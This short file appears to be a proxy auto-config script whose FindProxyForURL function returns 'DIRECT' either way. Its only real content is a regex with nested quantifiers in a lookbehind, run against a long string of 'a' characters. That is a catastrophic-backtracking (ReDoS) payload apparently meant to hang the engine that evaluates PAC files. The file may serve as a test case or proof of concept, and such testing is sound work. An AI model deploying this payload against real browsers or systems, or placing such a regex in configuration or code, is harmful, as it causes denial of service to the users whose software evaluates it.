function FindProxyForURL(url, host) {
  return /(?<=^(a+)+)b$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!".replace("!", "cb")) ? "DIRECT" : "DIRECT";
}
